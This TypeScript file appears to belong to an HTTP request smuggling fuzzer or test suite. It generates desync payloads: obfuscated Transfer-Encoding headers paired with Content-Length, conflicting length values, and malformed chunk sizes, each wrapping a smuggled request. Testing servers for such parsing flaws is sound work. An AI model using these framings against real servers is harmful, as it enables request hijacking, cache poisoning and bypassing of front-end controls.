/** Headers that two servers may understand as two different lengths of a body. */

/** The headers after the signed ones, and the bytes after the header. */
type Framing = [headers: string, body: (smuggled: string) => string];

/** By length the body is empty; the smuggled request follows what a chunked reader takes as the end. */
const afterLastChunk = (smuggled: string) => `0\r\n\r\n${smuggled}`;
const inChunk = (smuggled: string) => `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`;

const codings = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding:chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding: \u000bchunked",
  "Transfer-Encoding: chunked\u000b",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: chunked, chunked",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunkedx",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: CHUNKED",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: chunked;q=1",
  "Transfer-Encoding: identity",
  "Transfer-Encoding: ",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "transfer-encoding: chunked\r\nTRANSFER-ENCODING: chunked",
  " Transfer-Encoding: chunked",
  "\u0000Transfer-Encoding: chunked",
] as const;

/** Each coding with a length beside it, before and after. */
const both: Framing[] = codings.flatMap((coding): Framing[] => [
  [`${coding}\r\nContent-Length: 5`, afterLastChunk],
  [`Content-Length: 5\r\n${coding}`, afterLastChunk],
]);

const lengths: Framing[] = [
  "Content-Length: 0\r\nContent-Length: 999",
  "Content-Length: 999\r\nContent-Length: 0",
  "Content-Length: 0, 999",
  "Content-Length: 0,0",
  "Content-Length: +0",
  "Content-Length: -0",
  "Content-Length: 0x0",
  "Content-Length: 0 0",
  "Content-Length: 0;",
  'Content-Length: "0"',
  "Content-Length: \u000b0",
  "Content-Length : 0",
  "Content-Length:\r\n 0",
  "Content-Length: 1e0",
  "Content-Length: 0.0",
  "Content-Length: ",
  "Content-Length: 18446744073709551616",
  "Content-Length: 0\nContent-Length: 999",
].map((header): Framing => [header, (smuggled) => smuggled]);

const chunkSizes: Framing[] = ["0x", "-", "+", " ", "g", "fffffffffffffffff", "\n", "0;\n"].map(
  (prefix): Framing => [
    "Transfer-Encoding: chunked",
    (smuggled) => `${prefix}${inChunk(smuggled)}`,
  ],
);

export const framings: Framing[] = [...both, ...lengths, ...chunkSizes];
